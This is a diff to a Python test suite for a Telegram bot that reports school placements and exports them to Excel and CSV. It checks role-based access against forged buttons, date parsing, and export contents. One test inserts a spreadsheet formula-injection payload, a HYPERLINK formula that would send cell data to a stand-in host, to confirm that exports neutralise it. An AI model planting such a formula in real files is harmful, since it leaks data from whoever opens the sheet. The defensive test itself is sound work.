@@ -109,7 +109,7 @@ async def test_coordinator_sees_the_year_as_it_happened(
 
 
 async def test_a_director_sees_only_their_school_even_with_forged_buttons(
-    chat: ChatDriver, db: Database, network: Network
+    chat: ChatDriver, db: Database, network: Network, i18n: I18n
 ) -> None:
     school = network.schools[3]
     other = network.schools[4]
@@ -120,7 +120,8 @@ async def test_a_director_sees_only_their_school_even_with_forged_buttons(
     text = menu.body
     assert school.name("kk") in text
     assert f": {network.truth.approved_by_school[school.id]} (" in text
-    assert "400" not in text  # the network's students are not theirs to count
+    not_theirs = i18n.gettext("• Students without a placement: {n} of {total}", locale="kk")
+    assert not_theirs.split("{")[0] not in text  # the network's students are not theirs
 
     sent_before = len(chat.telegram.bot_messages(director.id))
     forged = ReportCb(action="period", what="stats", period="y1", org=other.id).pack()
@@ -165,14 +166,19 @@ async def test_students_have_no_reports(chat: ChatDriver, db: Database, network:
     assert chat.telegram.calls("sendMediaGroup") == []
 
 
-async def test_typed_periods_are_checked(chat: ChatDriver, db: Database, network: Network) -> None:
+async def test_typed_periods_are_checked(
+    chat: ChatDriver, db: Database, network: Network, i18n: I18n
+) -> None:
     coordinator = await person(db, network.coordinators[1].telegram_id or 0, "ru")
     await chat.send(coordinator, "/stats")
     await chat.press(coordinator, "📅")
     backwards = await chat.send(coordinator, "31.12.2025 – 01.09.2025")
     assert "Конец периода раньше его начала" in backwards.body
     nonsense = await chat.send(coordinator, "с прошлой осени")
-    assert "два дня" in nonsense.body or "две даты" in nonsense.body
+    two_dates = "Please send two dates, the first and the last day, e.g. 01.09.2026 – 31.12.2026."
+    assert nonsense.body == i18n.gettext(two_dates, locale="ru")
+    too_early = await chat.send(coordinator, "01.01.1999 – 05.01.1999")
+    assert "2000" in too_early.body and "2100" in too_early.body
     await chat.send(coordinator, "01.09.2025 - 31.12.2025")
     summary = last_text(chat.telegram, coordinator)
     assert "Отчёт за 1 сент. 2025" in summary and "– 31 дек. 2025" in summary
@@ -313,3 +319,116 @@ async def test_a_department_official_sees_their_region(
     await chat.press_data(official, forged)
     assert chat.last_answer()["show_alert"] is True
     assert "not available" in chat.last_answer()["text"]
+
+
+@pytest.mark.parametrize(
+    ("typed", "heading"),
+    [
+        ("01.11 – 30.11", "Report for Nov 1, 2026 – Nov 30, 2026"),
+        ("01.09 – 31.12", "Report for Sep 1, 2026 – Dec 31, 2026"),
+        ("1.12 - 31.01", "Report for Dec 1, 2025 – Jan 31, 2026"),
+    ],
+)
+async def test_periods_typed_without_years_look_back_from_today(
+    chat: ChatDriver, db: Database, network: Network, typed: str, heading: str
+) -> None:
+    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
+    await chat.send(coordinator, "/stats")
+    await chat.press(coordinator, "📅")
+    await chat.send(coordinator, typed)
+    assert heading in last_text(chat.telegram, coordinator)
+
+
+async def test_a_period_pressed_twice_is_counted_once(
+    chat: ChatDriver, db: Database, network: Network
+) -> None:
+    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
+    menu = await chat.send(coordinator, "/stats")
+    button = menu.find_button(LAST_YEAR)
+    assert button is not None
+    await chat.press_data(coordinator, button["callback_data"], menu)
+    await chat.press_data(coordinator, button["callback_data"], menu)
+    assert "out of date" in chat.last_answer()["text"]
+    assert len(chat.telegram.calls("sendMediaGroup")) == 1
+    forged = ReportCb(action="period", what="stats", period="c99991230_99991231").pack()
+    await chat.press_data(coordinator, forged, menu)
+    assert chat.last_answer()["show_alert"] is True
+
+
+async def test_nothing_recorded_is_said_plainly(
+    chat: ChatDriver, db: Database, network: Network
+) -> None:
+    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
+    menu = await chat.send(coordinator, "/stats")
+    await chat.press(coordinator, "This month")
+    assert "Nothing was recorded in this period" in menu.body
+    assert chat.telegram.calls("sendMediaGroup") == []
+
+
+async def test_a_department_narrowed_to_the_university_stays_in_its_region(
+    chat: ChatDriver, db: Database, network: Network, tmp_path: Path
+) -> None:
+    official = await person(db, network.department.telegram_id or 0, "en")
+    in_region = {s.name("en") for s in network.schools if s.region == "Абай облысы"}
+    placed = sum(
+        network.truth.approved_by_school[s.id] for s in network.schools if s.region == "Абай облысы"
+    )
+    await chat.send(official, "/export")
+    await chat.press(official, "One organization")
+    await chat.press(official, "Shakarim")
+    await chat.press(official, LAST_YEAR)
+    await chat.press(official, "Excel")
+    [request] = chat.telegram.calls("sendDocument")
+    _name, content = next(iter(request.files.values()))
+    book = load_workbook(io.BytesIO(content))
+    placements = book.worksheets[1]
+    header = [cell.value for cell in placements[1]]
+    school, status = header.index("School"), header.index("Status")
+    rows = list(placements.iter_rows(min_row=2, values_only=True))
+    assert rows and {row[school] for row in rows} <= in_region
+    assert sum(1 for row in rows if row[status] == "Placed") == placed
+
+
+async def test_a_mentor_exports_only_their_students(
+    chat: ChatDriver, db: Database, network: Network
+) -> None:
+    mentor_id = next(iter(network.truth.students_by_mentor))
+    mentor = next(m for group in network.mentors.values() for m in group if m.id == mentor_id)
+    who = await person(db, mentor.telegram_id or 0, "en")
+    await chat.send(who, "/export")
+    await chat.press(who, LAST_YEAR)
+    await chat.press(who, "CSV")
+    [request] = chat.telegram.calls("sendDocument")
+    _name, content = next(iter(request.files.values()))
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        placements = list(
+            csv.DictReader(io.TextIOWrapper(archive.open("placements.csv"), "utf-8-sig"))
+        )
+        visits = list(csv.DictReader(io.TextIOWrapper(archive.open("visits.csv"), "utf-8-sig")))
+    students = {int(row["Student No."]) for row in placements if row["Status"] == "Placed"}
+    assert students == network.truth.students_by_mentor[mentor_id]
+    assert len(visits) == network.truth.visits_by_mentor[mentor_id]
+
+
+async def test_text_that_looks_like_a_formula_stays_text(
+    chat: ChatDriver, db: Database, network: Network
+) -> None:
+    student = network.students[sorted(network.truth.placed)[0] - network.students[0].id]
+    await db.users.rename(student.id, '=HYPERLINK("http://x.example/?"&A1,"open")')
+    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
+    for fmt in ("Excel", "CSV"):
+        await chat.send(coordinator, "/export")
+        await chat.press(coordinator, LAST_YEAR)
+        await chat.press(coordinator, fmt)
+    xlsx, zipped = (next(iter(r.files.values()))[1] for r in chat.telegram.calls("sendDocument"))
+    placements = load_workbook(io.BytesIO(xlsx)).worksheets[1]
+    cells = [
+        c
+        for row in placements.iter_rows(min_row=2)
+        for c in row
+        if c.value and str(c.value).startswith("=HYPER")
+    ]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        text = archive.read("placements.csv").decode("utf-8-sig")
+    assert "'=HYPERLINK" in text
